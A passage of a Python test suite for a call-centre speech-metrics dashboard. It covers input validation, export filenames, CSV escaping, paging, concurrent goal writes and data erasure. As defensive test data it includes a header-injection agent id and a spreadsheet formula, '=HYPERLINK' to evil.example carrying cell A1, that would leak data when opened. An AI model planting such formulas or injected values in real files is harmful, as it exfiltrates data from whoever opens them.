            "retag": c.post(f"/api/calls/{big}/variant", headers=hdr,
                            json={"variant": 1}).status_code,
            "retag body": c.post("/api/calls/1/variant", headers=hdr,
                                 json={"variant": big}).status_code,
            "call body": c.post("/api/calls", headers=hdr, json={
                "agent": "agent-a1", "start_ts": time.time(), "variant": big}).status_code,
            "assign body": c.post("/api/campaigns/camp-a/assign", headers=hdr,
                                  json={"agent": "agent-a1", "variant": big}).status_code,
            "outcome form": c.post(f"/calls/{big}/outcome",
                                   data={"outcome": "meeting", "csrf": token}).status_code,
            "assign form": c.post("/campaigns/camp-a/assign", data={
                "agent": "agent-a1", "variant": "-1", "csrf": token}).status_code,
            # finite times only (a NaN was written into the audit entry's JSON)
            "moment nan": c.get("/api/agents/agent-a1/moment?ts=nan").status_code,
            "metrics inf": c.get("/api/agents/agent-a1/metrics?since_ts=inf").status_code,
            "metrics until": c.get("/api/agents/agent-a1/metrics?until_ts=-inf").status_code,
        }
        assert {k: v for k, v in answers.items() if v != 422} == {}
        assert c.get(f"/api/calls/{2**63 - 1}").status_code == 404
        assert c.get("/api/flags/999999").status_code == 404


# ------------------------------------------------------------------------- filenames
def test_export_filenames_follow_rfc_6266_whatever_the_ids(org: Any) -> None:
    """A team 'Équipe Θ' made its export a 500 (not Latin-1) and an agent id with a quote added
    its own parameters to Content-Disposition: now an ASCII fallback and filename*=UTF-8''.
    The import refuses such an id now: it is in the database as an older import left it."""
    from urllib.parse import quote, unquote

    settings, data = org
    evil = 'agent-c2"; filename=evil.html; x="'
    db = store.open_db(settings.db_path)
    try:
        schema.import_inventory(db, [{"box": "box-c1", "agent": "agent-c1", "team": "Équipe Θ"}],
                                site=settings.site)
        seat_unchecked(db, "box-c2", evil, "team-a")
    finally:
        db.conn.close()
    with client(settings) as c:
        login_as(c, "admin", data)
        for path, name in (("/api/teams/" + quote("Équipe Θ") + "/export.csv", "Équipe Θ.csv"),
                           ("/api/agents/" + quote(evil) + "/export.csv", evil + ".csv"),
                           ("/api/agents/agent-a1/export.csv", "agent-a1.csv")):
            r = c.get(path)
            assert r.status_code == 200, path
            header = r.headers["content-disposition"]
            assert header.isascii()
            kind, plain, star = header.split("; ")
            assert kind == "attachment" and plain.startswith('filename="')
            assert plain.count('"') == 2 and ";" not in plain
            assert star.startswith("filename*=UTF-8''")
            assert unquote(star.removeprefix("filename*=UTF-8''")) == name
        assert c.get("/api/agents/agent-a1/export.csv").headers["content-disposition"] == (
            "attachment; filename=\"agent-a1.csv\"; filename*=UTF-8''agent-a1.csv")


def test_the_import_refuses_an_agent_or_team_id_the_dashboard_could_not_reach(
        tmp_path: Path) -> None:
    """`miroir dashboard import` took 'north/priya' (then listed by /api/agents, while its page,
    exports and erasure answered 404): it now refuses an agent or team id outside the
    inventory's rule (provisioning's), naming each bad line and the characters allowed, and
    imports nothing from that file."""
    from miroir.labels import LABEL_RULE

    settings = make_settings(tmp_path)
    env = dict(os.environ, MIROIR_DASH_SITE="site-1", MIROIR_DASH_DB_PATH=str(settings.db_path))
    inv = tmp_path / "floor.csv"
    inv.write_text("box,seat,agent,team\nbox-1,P1,ag-1,north\nbox-2,P2,north/priya,north\n"
                   "box-3,P3,Zoé O'Neil,nord?x\n")

    def run() -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "miroir", "dashboard", "import", str(inv)],
                              env=env, capture_output=True, text=True, timeout=60, check=False)

    r = run()
    assert r.returncode == 2, r.stdout
    error = r.stderr.strip().splitlines()[-1]  # one line, after the schema's log lines
    assert f"line 3 (box box-2): agent 'north/priya' must be {LABEL_RULE}" in error
    assert f"line 4 (box box-3): team 'nord?x' must be {LABEL_RULE}" in error
    assert "line 2" not in error
    assert query(settings, "SELECT agent FROM agents") == []
    assert query(settings, "SELECT box FROM seats") == []
    inv.write_text("box,seat,agent,team\nbox-1,P1,ag-1,north\nbox-3,P3,Zoé O'Neil,Équipe Θ\n")
    r = run()
    assert (r.returncode, r.stdout.strip()) == (0, "imported 2 seats"), r.stderr
    assert query(settings, "SELECT agent, team FROM agents ORDER BY agent") == [
        ("Zoé O'Neil", "Équipe Θ"), ("ag-1", "north")]


def test_the_import_refuses_an_agent_or_team_id_that_is_a_dot_segment(tmp_path: Path) -> None:
    """`miroir dashboard import` took the agent '..' and the team '.' (dots are allowed in an id):
    exit 0, "imported 2 seats". Their addresses are dot segments, which browsers and HTTP clients
    resolve before sending: the pages' link /agents/.. is sent as /, /api/agents/../export.json
    as /api/export.json (404), so that agent's page, export and erasure could not be reached.
    The import now refuses '.' and '..' as an id, naming the line, and imports nothing."""
    import httpx

    from miroir.labels import LABEL_RULE

    assert httpx.URL("https://d/api/agents/../export.json").path == "/api/export.json"
    settings = make_settings(tmp_path)
    env = dict(os.environ, MIROIR_DASH_SITE="site-1", MIROIR_DASH_DB_PATH=str(settings.db_path))
    inv = tmp_path / "floor.csv"
    inv.write_text("box,seat,agent,team\nbox-1,P1,..,north\nbox-2,P2,ag-2,.\nbox-3,P3,a.b,n..\n")
    r = subprocess.run([sys.executable, "-m", "miroir", "dashboard", "import", str(inv)],
                       env=env, capture_output=True, text=True, timeout=60, check=False)
    assert r.returncode == 2, r.stdout
    error = r.stderr.strip().splitlines()[-1]
    assert f"line 2 (box box-1): agent '..' must be {LABEL_RULE}" in error
    assert f"line 3 (box box-2): team '.' must be {LABEL_RULE}" in error
    assert "line 4" not in error  # dots within an id are fine
    assert query(settings, "SELECT agent FROM agents") == []


def test_an_agent_id_an_older_import_let_in_can_still_be_exported_and_erased(org: Any) -> None:
    """An agent 'north/priya' in the database (an import before the id rule) was listed by
    /api/agents but their page, export.json and erasure answered 404, the path cut at the '/':
    a data subject whose data could be neither handed over nor erased. Every agent route now
    takes the id whole, written with its '/' (the pages' links) or as %2F (the pages' scripts)."""
    from miroir import wire

    settings, data = org
    agent = "north/priya"
    now = time.time()
    db = store.open_db(settings.db_path)
    try:
        seat_unchecked(db, "box-c1", agent, "team-a", now=now - 100)
        store.insert_metrics(db, wire.decode("metrics", wire.encode("metrics", {
            "v": wire.SCHEMA_VERSION, "site": settings.site, "box": "box-c1", "ts": now - 50,
            "seq": 1, "t_start": 1.0, "window_s": 1.0, "near_speech_ratio": 0.5,
            "far_speech_ratio": 0.1, "near_talking": True, "far_talking": False,
            "talk_state": "agent"})), now)
    finally:
        db.conn.close()
    encoded = "/api/agents/north%2Fpriya"
    with client(settings) as c:
        login_as(c, "sup-a", data)
        assert agent in [a["agent"] for a in c.get("/api/agents").json()["agents"]]
        assert len(c.get(encoded + "/metrics").json()["rows"]) == 1
        assert c.get("/api/agents/north/priya").json()["agent"] == agent
        page = c.get("/agents/north/priya")
        assert page.status_code == 200 and 'href="/api/agents/north/priya/export.csv"' in page.text
        csv_text = c.get("/api/agents/north/priya/export.csv").text
        assert len(csv_text.strip().splitlines()) == 2 and agent in csv_text
        assert c.get("/api/agents/agent-a1/metrics").json()["agent"] == "agent-a1"
    with client(settings) as c:
        login_as(c, ADMIN_USER, data)
        full = c.get(encoded + "/export.json")
        assert full.status_code == 200
        assert [a["agent"] for a in full.json()["agent"]] == [agent]
        assert len(full.json()["metrics"]) == 1
        assert c.get(encoded + "/audit").json()["total"] >= 1
        erased = c.post(encoded + "/erase", headers=csrf_header(c))
        assert erased.status_code == 200, erased.text
        assert agent not in [a["agent"] for a in c.get("/api/agents").json()["agents"]]
        # the per-second rows go after the answer, in the purge loop, which stops with the app
        wait_until(lambda: c.get("/api/erasures").json()["left"] == {"metrics": 0, "events": 0},
                   "the erasure's rows deleted")
    assert query(settings, "SELECT count(*) FROM metrics WHERE box = 'box-c1'") == [(0,)]


def test_an_agent_id_ending_in_a_route_word_reaches_that_agent_not_the_one_before_it(
        org_server: Any) -> None:
    """Agents 'agent-a1/export.json', 'agent-a1/flags', 'agent-a1/metrics' (an older import) beside
    'agent-a1': GET /api/agents/agent-a1%2Fexport.json, as the pages' scripts write the id, answered
    agent-a1's whole export and audited an export_all of agent-a1 (the server decodes %2F before
    routing, and the export route took 'agent-a1'); each of the 7 route words did the same. An id
    written with %2F is now one segment; written with a bare '/' it still reaches the others."""
    import httpx

    from tests._fixtures_dashboard import http_login

    server, _ = org_server
    settings = server.settings
    words = ("export.json", "export.csv", "metrics", "flags", "goals", "calls", "audit")
    db = store.open_db(settings.db_path)
    try:
        for i, word in enumerate(words):
            seat_unchecked(db, f"box-w{i}", f"agent-a1/{word}", "team-a")
    finally:
        db.conn.close()
    with httpx.Client(base_url=server.url, follow_redirects=False) as c:
        cookie = {"cookie": f"__Host-miroir={http_login(c)}"}
        for word in words:
            agent = f"agent-a1/{word}"
            r = c.get(f"/api/agents/agent-a1%2F{word}", headers=cookie)
            assert r.status_code == 200, (word, r.text[:200])
            assert r.headers["content-type"].startswith("application/json"), word
            assert r.json()["agent"] == agent, (word, r.text[:200])
            full = c.get(f"/api/agents/agent-a1%2F{word}/export.json", headers=cookie).json()
            assert [a["agent"] for a in full["agent"]] == [agent]
        # the id written as is: the longest agent route still wins, as before
        assert c.get("/api/agents/agent-a1/flags", headers=cookie).json().keys() == {
            "flags", "total", "more", "before", "next_before"}
    reads = query(settings, "SELECT agent, action FROM audit_log WHERE actor = ? "
                  "AND agent LIKE 'agent-a1%' ORDER BY id", ADMIN_USER)
    assert ("agent-a1", "export_all") not in reads
    assert [a for a, action in reads if action == "view_agent"] == \
        [f"agent-a1/{w}" for w in words]


def test_a_csv_export_cannot_carry_a_spreadsheet_formula(org: Any) -> None:
    """Agent ids are free text from the site's inventory: one that starts with =, +, - or @ went
    into the CSV exports as is, a formula that a spreadsheet opening the file runs. Such a cell
    now starts with an apostrophe (read as text); numbers are untouched. The import now refuses
    most of these ids ('-2' and '@SUM' it allows): they are written as an older import did."""
    import csv
    import io
    from urllib.parse import quote

    from miroir import wire

    settings, data = org
    hostile = ['=HYPERLINK("https:evil.example?"&A1,"x")', "+33 6 12 34 56 78", "-2+3",
               "@SUM(1+1)"]
    start = time.time() - 100
    db = store.open_db(settings.db_path)
    try:
        for k, agent in enumerate(hostile):
            seat_unchecked(db, "box-a2", agent, "team-a", now=start + 10 * k)  # an older import
            store.insert_metrics(db, wire.decode("metrics", wire.encode("metrics", {
                "v": wire.SCHEMA_VERSION, "site": settings.site, "box": "box-a2",
                "ts": start + 10 * k + 5, "seq": 1000 + k, "t_start": 1.0, "window_s": 1.0,
                "near_speech_ratio": 0.5, "far_speech_ratio": 0.1, "near_talking": True,
                "far_talking": False, "talk_state": "agent"})), time.time())
    finally:
        db.conn.close()
    with client(settings) as c:
        login_as(c, "sup-a", data)
        paths = ["/api/teams/team-a/export.csv",
                 *("/api/agents/" + quote(a, safe="") + "/export.csv" for a in hostile)]
        for path in paths:
            r = c.get(path)
            assert r.status_code == 200, path
            rows = list(csv.reader(io.StringIO(r.text)))
            cells = [cell for row in rows[1:] for cell in row]
            assert cells and not [x for x in cells if x[:1] in ("=", "+", "@", "\t", "\r")], path
            assert not [x for x in cells if x.startswith("-") and not _number(x)], path
        team = list(csv.DictReader(io.StringIO(c.get(paths[0]).text)))
        for path in paths:  # Excel's export (';', decimal comma) holds the same guard
            r = c.get(path + "?excel=1")
            assert r.status_code == 200, path
            rows = list(csv.reader(io.StringIO(r.text.removeprefix("\ufeff")), delimiter=";"))
            cells = [cell for row in rows[1:] for cell in row]
            assert cells and not [x for x in cells if x[:1] in ("=", "+", "@", "\t", "\r")], path
            assert not [x for x in cells if x.startswith("-")
                        and not _number(x.replace(",", "."))], path
    assert {"'" + a for a in hostile} <= {r["agent"] for r in team}
    assert {r["agent"] for r in team} >= {"agent-a1"}


def test_the_team_page_offers_an_export_french_excel_opens_in_columns(org: Any) -> None:
    """The metrics CSV ('agent,box,...', decimal points, no byte order mark) opens in one column
    in French Excel, the supervisors' tool, its accents garbled. The team and agent pages now
    offer an export for Excel beside it: UTF-8 with a byte order mark, ';' between columns, a
    decimal comma, the pages' column labels and %; the standard CSV is unchanged."""
    import csv
    import io

    settings, data = org
    _fill_metrics(settings, "agent-a1", "box-a1", 20)
    with client(settings) as c:
        login_as(c, "sup-a", data)
        standard = c.get("/api/teams/team-a/export.csv").text
        assert standard.startswith("agent,box,seq,time_utc,ts,talk_state,")
        page = c.get("/teams/team-a").text
        href = html.unescape(page.split('id="export-excel"')[0].rsplit('href="', 1)[1]
                             .split('"')[0])
        assert href == "/api/teams/team-a/export.csv?excel=1"
        r = c.get(href)
        assert r.status_code == 200
        assert "filename*=UTF-8''team-a-excel.csv" in r.headers["content-disposition"]
        assert r.content.startswith("\ufeff".encode())
        rows = list(csv.reader(io.StringIO(r.text.removeprefix("\ufeff")), delimiter=";"))
        std = list(csv.DictReader(io.StringIO(standard)))
        head = rows[0]
        assert head[:5] == ["Agent", "Boîtier", "N°", "Heure (UTC)", "Tour de parole"]
        assert "Agent — Volume (dBFS)" in head and "Agent — Temps de parole (%)" in head
        assert len(rows) - 1 == len(std) and all(len(row) == len(head) for row in rows)
        volume = head.index("Agent — Volume (dBFS)")
        share = head.index("Agent — Temps de parole (%)")
        levels = [(row[volume], s["near_level_dbfs"]) for row, s in zip(rows[1:], std,
                                                                         strict=True)
                  if s["near_level_dbfs"]]
        assert levels and any("," in x for x, _ in levels)
        assert all("." not in x and float(x.replace(",", ".")) == pytest.approx(float(y), abs=1e-6)
                   for x, y in levels)
        shares = [(row[share], s["near_speech_ratio"]) for row, s in zip(rows[1:], std,
                                                                         strict=True)
                  if s["near_speech_ratio"]]
        assert shares and all(float(x.replace(",", ".")) == pytest.approx(100 * float(y),
                                                                           abs=1e-4)
                              for x, y in shares)
        assert rows[1][3].count(":") == 2 and "T" not in rows[1][3]
        # the talk state as the pages name it (the standard CSV keeps the codes)
        states = {(row[4], s["talk_state"]) for row, s in zip(rows[1:], std, strict=True)}
        french = {"agent": "Agent parle", "prospect": "Prospect parle",
                  "overlap": "Chevauchement", "silence": "Silence", "": ""}
        assert ("Agent parle", "agent") in states
        assert states == {(french[code], code) for _, code in states}
        assert c.get("/api/teams/team-a/export.csv").text == standard
    db = store.open_db(settings.db_path)
    try:  # in English for a reader in English
        english = "".join(retention.metrics_excel_chunks(db, ["agent-a1"], "en"))
    finally:
        db.conn.close()
    assert {row[4] for row in list(csv.reader(io.StringIO(english.removeprefix("\ufeff"))))[1:]
            } >= {"Agent speaking"}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_goals_set_at_once_leave_two_active_as_any_goals_do(org_server: Any) -> None:
    """At most two goals are active per agent, the oldest retired as a new one comes: goals set
    at once (a double click on "Fixer l'objectif", two supervisors) each read the active ones,
    then each wrote its own, and 6 (then 3) were left active in 8 bursts of 6 over the real
    server. The read and the writes are now one write transaction: 2 active after every burst."""
    import threading

    import httpx

    from tests._fixtures_dashboard import USER_PASSWORD, csrf_of, http_login

    server, data = org_server
    with httpx.Client(base_url=server.url, timeout=10.0) as c:
        cookie = {"cookie": "__Host-miroir="
                            f"{http_login(c, 'sup-a', USER_PASSWORD, data['secrets']['sup-a'])}"}
        hdr = {**cookie, "x-csrf-token": csrf_of(c.get("/", headers=cookie).text)}
    active = []
    for k in range(10):
        answers: list[int] = []
        start = threading.Barrier(6)

        def set_goal(n: int, k: int = k, answers: list[int] = answers,
                     start: threading.Barrier = start) -> None:
            with httpx.Client(base_url=server.url, timeout=30.0) as c:
                start.wait()
                answers.append(c.post("/api/agents/agent-a1/goals", headers=hdr, json={
                    "metric": "near_speech_ratio", "label": f"objectif {k}.{n}"}).status_code)

        threads = [threading.Thread(target=set_goal, args=(n,)) for n in range(6)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert answers == [201] * 6
        active.append(query(server.settings, "SELECT count(*) FROM goals WHERE agent = 'agent-a1' "
                                             "AND active = 1")[0][0])
    assert active == [2] * 10


def test_a_call_cannot_end_before_it_starts(org_server: Any) -> None:
    """A call whose end came before its start (a connector's clocks swapped, a typing slip) was
    stored, and the agent's page gave its length as "-1666,7 min". Such a call is a 422 now,
    nothing stored, over the real server; a call stored so before shows no length."""
    import re

    import httpx

    from tests._fixtures_dashboard import USER_PASSWORD, csrf_of, http_login

    server, data = org_server
    start = float(int(time.time()) - 3600)  # a day ahead at most (was 2027: refused now)
    with httpx.Client(base_url=server.url, timeout=10.0) as c:
        cookie = {"cookie": "__Host-miroir="
                            f"{http_login(c, 'sup-a', USER_PASSWORD, data['secrets']['sup-a'])}"}
        hdr = {**cookie, "x-csrf-token": csrf_of(c.get("/", headers=cookie).text)}
        r = c.post("/api/calls", headers=hdr, json={"agent": "agent-a1", "start_ts": start,
                                                    "end_ts": start - 100_000})
        assert r.status_code == 422, r.text
        assert query(server.settings, "SELECT count(*) FROM calls WHERE start_ts = ?",
                     start) == [(0,)]
        r = c.post("/api/calls", headers=hdr, json={"agent": "agent-a1", "start_ts": start,
                                                    "end_ts": start + 90})
        assert r.status_code == 201
        db = store.open_db(server.settings.db_path)
        with db.conn:  # stored before the check
            db.conn.execute("INSERT INTO calls (agent, start_ts, end_ts) VALUES "
                            "('agent-a1', ?, ?)", (start + 10, start - 100_000))
        db.conn.close()
        page = c.get("/agents/agent-a1", headers=cookie).text
    assert "1,5 min" in page
    assert not re.search(r"-[0-9][0-9 ,]* min", page)


def test_goals_and_team_means_keep_to_metrics_whose_daily_mean_means_something(
        org: Any) -> None:
    """The goal form offered the prospect's metrics (pitch, tension), a running total ("Temps de
    phonation" grows through the shift) and an instant ("Monologue en cours"), and the team means
    averaged "Monologue en cours". Goals are now refused on those (form and API, 422), the team
    means leave out the running totals and instants; a goal set on one before still shows."""
    import re

    settings, data = org
    db = store.open_db(settings.db_path)
    try:
        with db.conn:  # a goal an older version let a supervisor set
            db.conn.execute("INSERT INTO goals (agent, metric, label, direction, author, "
                            "created_ts) VALUES ('agent-a1', 'monologue_s_current', "
                            "'monologues plus courts', 'down', 'sup-a', ?)", (time.time(),))
    finally:
        db.conn.close()
    refused = ["monologue_s_current", "fatigue_phonation_min", "far_f0_median_hz",
               "prospect_tension"]
    with client(settings) as c:
        login_as(c, "sup-a", data)
        page = c.get("/agents/agent-a1").text
        form = page[page.index('id="goal-form"'):]
        offered = re.findall(r'<option value="([^"]+)"', form[:form.index("</select>")])
        assert "near_rate_syl_s" in offered and "near_level_dbfs" in offered
        assert not set(refused) & set(offered), offered
        assert not [m for m in offered if m.startswith("far_")], offered
        assert "monologues plus courts" in page  # the old goal still shows
        hdr = csrf_header(c)
        for metric in refused:
            r = c.post("/api/agents/agent-a1/goals", headers=hdr,
                       json={"metric": metric, "label": "x", "direction": "down"})
            assert r.status_code == 422, (metric, r.text)
        r = c.post("/agents/agent-a1/goals", data={"metric": "far_f0_median_hz",
                                                   "label": "voix du prospect",
                                                   "direction": "down", "csrf": hdr["x-csrf-token"]})
        assert r.status_code == 422 and "ne dit rien de l&#39;agent" in r.text
        assert c.post("/api/agents/agent-a1/goals", headers=hdr, json={
            "metric": "near_rate_syl_s", "label": "ralentir", "direction": "down"}
        ).status_code == 201
        goals = c.get("/api/agents/agent-a1/goals").json()["goals"]
        assert {g["metric"] for g in goals} >= {"monologue_s_current", "near_rate_syl_s"}
        means = {a["metric"] for a in c.get("/api/aggregates").json()["aggregates"]}
    assert "near_speech_ratio" in means
    assert not {"monologue_s_current", "fatigue_phonation_min"} & means


def _http_session(server: Any, user: str, password: str,
                  secret: str | None = None) -> tuple[Any, dict[str, str]]:
    """An ``httpx.Client`` on the real server logged in as ``user``, with its cookie header."""
    import httpx

    from tests._fixtures_dashboard import http_login

    c = httpx.Client(base_url=server.url, timeout=20.0)
    return c, {"cookie": f"__Host-miroir={http_login(c, user, password, secret)}"}


def _walk(c: Any, cookie: dict[str, str], url: str, key: str,
          limit: int) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Every row of ``key`` a paged list gives, ``limit`` a page, following ``next_before``;
    with each page's answer."""
    got: list[dict[str, Any]] = []
    pages: list[dict[str, Any]] = []
    before: int | None = None
    while True:
        r = c.get(url, params={"limit": limit, **({} if before is None else {"before": before})},
                  headers=cookie)
        assert r.status_code == 200, r.text
        body = r.json()
        pages.append(body)
        assert len(body[key]) <= limit and body["before"] == before
        got += body[key]
        if not body["more"]:
            assert body["next_before"] is None
            return got, pages
        assert body["next_before"] == body[key][-1]["id"]
        before = body["next_before"]


def test_an_agents_calls_are_paged_to_the_oldest(org_server: Any) -> None:
    """GET /api/agents/{agent}/calls gave the newest 500 calls and no way further: over the real
    server, of agent-a1's 1,230 calls the 730 oldest could not be read through the API (nor by
    the agent, nor an admin). It now pages them newest first (start, then id: calls starting
    together keep one order), ``limit`` a page (500 unless asked, at most 500), older than the
    call ``before``: ``more``/``next_before`` lead on, ``total`` counts them. Walking 100 a page,
    with calls sharing a start across the pages' edges, gives each call once, the oldest last;
    each page read is audited as a read of the agent's calls, as the one page was."""
    server, _ = org_server
    db = store.open_db(server.settings.db_path)
    # before the seeded calls of the last day, within the calls' retention, which a purge could
    # run meanwhile (dated 2023, all 1,200 went while the test paged them)
    base = time.time() - 3 * 86400.0 - 400 * 60
    try:
        with db.conn:  # three calls a start: the pages' edges (every 100) fall among them
            db.conn.executemany(
                "INSERT INTO calls (agent, box, start_ts, end_ts, summary) VALUES (?, ?, ?, ?, ?)",
                [("agent-a1", "box-a1", base + k // 3 * 60, base + k // 3 * 60 + 30,
                  json.dumps({"n": k}) if k % 2 else None) for k in range(1200)])
        expected = [r[0] for r in db.conn.execute(
            "SELECT id FROM calls WHERE agent = 'agent-a1' ORDER BY start_ts DESC, id DESC")]
    finally:
        db.conn.close()
    assert len(expected) == 1230  # and the seeded org's 30
    c, cookie = _http_session(server, ADMIN_USER, ADMIN_PASSWORD)
    try:
        reads = query(server.settings, "SELECT count(*) FROM audit_log WHERE action = "
                                       "'read_calls' AND agent = 'agent-a1'")[0][0]
        got, pages = _walk(c, cookie, "/api/agents/agent-a1/calls", "calls", 100)
        assert [g["id"] for g in got] == expected  # each once, newest first, the oldest last
        assert all(got[k - 1]["start_ts"] == got[k]["start_ts"] for k in (100, 200, 1100))
        assert {p["total"] for p in pages} == {1230} and len(pages) == 13
        assert got[-1]["summary"] is None and got[-2]["summary"] == {"n": 1}  # parsed, as before
        assert query(server.settings, "SELECT count(*) FROM audit_log WHERE action = "
                                      "'read_calls' AND agent = 'agent-a1'")[0][0] == reads + 13
        first = c.get("/api/agents/agent-a1/calls", headers=cookie).json()
        assert [g["id"] for g in first["calls"]] == expected[:500] and first["more"]
        assert first["next_before"] == expected[499]
        for bad in ("limit=0", "limit=501", "limit=1_0", "before=0", "before=%D9%A1",
                    "before=1e3"):
            assert c.get(f"/api/agents/agent-a1/calls?{bad}",
                         headers=cookie).status_code == 422, bad
        b_call = query(server.settings, "SELECT id FROM calls WHERE agent = 'agent-b1'")[0][0]
        r = c.get(f"/api/agents/agent-a1/calls?before={b_call}", headers=cookie)
        assert r.status_code == 404  # another agent's call is no place in this list
    finally:
        c.close()
    c, cookie = _http_session(server, "amina", USER_PASSWORD)
    try:  # the agent reaches their oldest call too
        got, _ = _walk(c, cookie, "/api/agents/agent-a1/calls", "calls", 500)
        assert [g["id"] for g in got] == expected
    finally:
        c.close()


def test_the_audit_log_is_paged_to_its_oldest_entry(org_server: Any) -> None:
    """GET /api/audit took ``limit`` (at most 5,000) but no ``before``: over the real server
    with 6,000 entries the 1,000 oldest could not be read through the API at all. It now pages
    the log newest first (by id: entries of one moment keep one order), ``limit`` a page (500
    unless asked), older than the entry ``before``, with ``more``/``next_before`` and
    ``total``. Walking it, the auditor reads every entry once, the oldest last; reading the
    log is not itself an entry, as before."""
    server, _ = org_server
    db = store.open_db(server.settings.db_path)
    now = time.time()
    try:
        with db.conn:  # four entries a second
            db.conn.executemany(
                "INSERT INTO audit_log (ts, actor, actor_role, agent, action, detail) "
                "VALUES (?, 'sup-a', 'supervisor', 'agent-a1', 'read_metrics', ?)",
                [(now - 7200 + k // 4, json.dumps({"k": k})) for k in range(6000)])
    finally:
        db.conn.close()
    c, cookie = _http_session(server, "auditrice", USER_PASSWORD)
    try:
        expected = query(server.settings, "SELECT id FROM audit_log ORDER BY id DESC")
        assert len(expected) >= 6000
        got, pages = _walk(c, cookie, "/api/audit", "entries", 999)
        assert [g["id"] for g in got] == [e[0] for e in expected]  # the oldest last, each once
        edges = range(999, len(got), 999)
        assert sum(got[k - 1]["ts"] == got[k]["ts"] for k in edges) >= 4  # edges among ties
        assert {p["total"] for p in pages} == {len(expected)}
        assert query(server.settings, "SELECT count(*) FROM audit_log")[0][0] == len(expected)
        first = c.get("/api/audit", headers=cookie).json()
        assert [e["id"] for e in first["entries"]] == [e[0] for e in expected[:500]]
        assert first["more"] and first["next_before"] == expected[499][0]
        for bad in ("limit=0", "limit=5001", "limit=1_0", "before=0", "before=%D9%A1"):
            assert c.get(f"/api/audit?{bad}", headers=cookie).status_code == 422, bad
    finally:
        c.close()


def test_the_agent_s_turns_chart_and_exports_say_hold_for_seconds_on_hold(
        org_server: Any) -> None:
    """The floor's timeline says ``hold`` for a second on hold (db.HELD_TALK_STATE_SQL), while
    the agent page's "Tours de parole" chart (its rows' talk_state) and the CSV exports gave the
    stored talk state: the agent asking a colleague on hold read as the agent talking on the
    call. They now say ``hold`` for it (Excel: "En attente"), by the same rule, the columns kept."""
    import csv
    import io

    from miroir import wire

    server, data = org_server
    start = time.time() - 100
    held = {start + k for k in range(10, 15)}
    db = store.open_db(server.settings.db_path)
    try:
        for k in range(20):
            store.insert_metrics(db, wire.decode("metrics", wire.encode("metrics", {
                "v": wire.SCHEMA_VERSION, "site": server.settings.site, "box": "box-a1",
                "ts": start + k, "seq": 9_000_000 + k, "t_start": 1.0, "window_s": 1.0,
                "near_speech_ratio": 0.9, "far_speech_ratio": 0.0, "near_talking": True,
                "far_talking": False, "talk_state": "agent",
                "on_hold": start + k in held})), time.time())
    finally:
        db.conn.close()
    c, cookie = _http_session(server, "sup-a", USER_PASSWORD, data["secrets"]["sup-a"])
    try:
        r = c.get("/api/agents/agent-a1/metrics", params={"since_ts": start - 1},
                  headers=cookie)
        assert r.status_code == 200, r.text
        chart = {row["ts"]: row["talk_state"] for row in r.json()["rows"]
                 if row["seq"] >= 9_000_000}  # the seeded org's own rows aside
        assert len(chart) == 20
        assert {ts for ts, s in chart.items() if s == "hold"} == held
        assert {s for ts, s in chart.items() if ts not in held} == {"agent"}
        for path, delimiter, state, hold in (
                ("/api/agents/agent-a1/export.csv", ",", "talk_state", "hold"),
                ("/api/agents/agent-a1/export.csv?excel=1", ";", "Tour de parole",
                 "En attente")):
            r = c.get(path, headers=cookie)
            assert r.status_code == 200, path
            rows = list(csv.DictReader(io.StringIO(r.text.removeprefix("\ufeff")),
                                       delimiter=delimiter))
            seq = "seq" if delimiter == "," else "N°"
            mine = {int(row[seq]) - 9_000_000: row[state] for row in rows
                    if int(row[seq]) >= 9_000_000}
            assert len(mine) == 20, path
            assert {k for k, s in mine.items() if s == hold} == {10, 11, 12, 13, 14}, path
            assert {s for k, s in mine.items() if not 10 <= k < 15} == (
                {"agent"} if delimiter == "," else {"Agent parle"}), path
        assert c.get("/api/agents/agent-a1/export.csv", headers=cookie).text.startswith(
            "agent,box,seq,time_utc,ts,talk_state,")
    finally:
        c.close()


def test_an_agents_flags_are_paged_to_the_oldest(org_server: Any) -> None:
    """GET /api/agents/{agent}/flags answered every flag of the agent in one answer (no limit,
    no paging) while the agent page shows 100: over the real server, 1,200 flags of agent-a1 came
    in one answer, ?limit=100 ignored. It now pages them newest first (by time, then id: flags
    of one moment keep one order), 100 a page (at most 500), older than the flag ``before`` (404
    if not the agent's), with ``more``/``next_before`` and ``total``, as the calls API; each
    page read is one read_flags entry of the agent's audit log, as the one answer was."""
    server, data = org_server
    db = store.open_db(server.settings.db_path)
    day_ago = time.time() - 86400.0  # within the flags' retention, which a purge could run meanwhile
    try:
        with db.conn:  # three flags a moment: the pages' edges (every 100) fall among them
            db.conn.executemany(
                "INSERT INTO flags (agent, box, ts, note, author, created_ts) "
                "VALUES ('agent-a1', 'box-a1', ?, ?, 'sup-a', ?)",
                [(day_ago - k // 3 * 60, f"n{k}", day_ago) for k in range(1200)])
        expected = [r[0] for r in db.conn.execute(
            "SELECT id FROM flags WHERE agent = 'agent-a1' ORDER BY ts DESC, id DESC")]
        b_flag = db.conn.execute(
            "INSERT INTO flags (agent, box, ts, note, author, created_ts) "
            "VALUES ('agent-b1', 'box-b1', ?, 'b', 'sup-b', ?)", (day_ago, day_ago)).lastrowid
        db.conn.commit()
    finally:
        db.conn.close()
    assert len(expected) >= 1200
    c, cookie = _http_session(server, "sup-a", USER_PASSWORD, data["secrets"]["sup-a"])
    try:
        reads = query(server.settings, "SELECT count(*) FROM audit_log WHERE action = "
                                       "'read_flags' AND agent = 'agent-a1'")[0][0]
        first = c.get("/api/agents/agent-a1/flags", headers=cookie).json()
        assert [f["id"] for f in first["flags"]] == expected[:100]  # the page's 100
        assert first["more"] and first["next_before"] == expected[99]
        assert first["total"] == len(expected) and first["before"] is None
        got, pages = _walk(c, cookie, "/api/agents/agent-a1/flags", "flags", 100)
        assert [g["id"] for g in got] == expected  # each once, newest first, the oldest last
        assert all(got[k - 1]["ts"] == got[k]["ts"] for k in (100, 200, 400))
        assert {p["total"] for p in pages} == {len(expected)}
        assert got[-1]["note"] and set(got[-1]) >= {"id", "agent", "ts", "note", "author"}
        assert query(server.settings, "SELECT count(*) FROM audit_log WHERE action = "
                                      "'read_flags' AND agent = 'agent-a1'")[0][0] \
            == reads + 1 + len(pages)
        whole, _ = _walk(c, cookie, "/api/agents/agent-a1/flags", "flags", 500)
        assert [g["id"] for g in whole] == expected
        for bad in ("limit=0", "limit=501", "limit=1_0", "before=0", "before=%D9%A1",
